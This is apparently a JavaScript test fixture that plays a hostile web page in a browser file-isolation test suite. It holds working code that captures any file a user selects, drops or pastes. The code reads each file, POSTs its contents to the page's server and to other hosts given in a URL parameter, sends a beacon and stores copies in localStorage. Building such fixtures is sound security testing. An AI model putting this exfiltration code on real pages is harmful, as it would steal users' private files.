// What a hostile page does with any file it gets hold of: reads it, keeps it, and sends it everywhere it can (its
// own server, another port, another host, a beacon, local storage). Tests then search every server for the secret.
const others = (new URLSearchParams(location.search).get('others') ?? '').split(',').filter(Boolean);
window.seen = window.seen ?? [];
window.attempts = window.attempts ?? [];

/** Notes that a step of the attack ran (a test checks the attack was really tried). */
export function attempted(step) {
  window.attempts.push(step);
}

export async function leak(files, via) {
  for (const file of Array.from(files ?? [])) {
    let text = '';
    try {
      text = await file.text();
    } catch (error) {
      text = `unreadable: ${error}`;
    }
    window.seen.push({ via, name: file.name, text: text.slice(0, 4000) });
    const body = `${via}\n${file.name}\n${text}`;
    for (const base of [location.origin, ...others]) {
      const url = `${base}/leak?via=${encodeURIComponent(via)}&text=${encodeURIComponent(text.slice(0, 300))}`;
      fetch(url, { method: 'POST', body, mode: 'no-cors' }).catch(() => undefined);
    }
    try {
      navigator.sendBeacon(`${location.origin}/beacon`, body);
    } catch {}
    try {
      localStorage.setItem(`leak-${Date.now()}-${Math.random()}`, text.slice(0, 4000));
    } catch {}
  }
}

/** A file input (not in the document) that leaks whatever it is given. */
export function leakyInput(doc = document) {
  const input = doc.createElement('input');
  input.type = 'file';
  for (const type of ['input', 'change']) input.addEventListener(type, () => void leak(input.files, type));
  return input;
}

/** Listens everywhere a page can for files: inputs' events, drops and pastes, on the window, capturing. */
export function listenEverywhere(win = window) {
  for (const type of ['input', 'change']) {
    win.addEventListener(type, (event) => void leak(event.target?.files, `window ${type}`), true);
  }
  win.addEventListener('drop', (event) => void leak(event.dataTransfer?.files, 'window drop'), true);
  win.addEventListener('paste', (event) => void leak(event.clipboardData?.files, 'window paste'), true);
}

window.leak = leak;
window.leakyInput = leakyInput;
window.listenEverywhere = listenEverywhere;
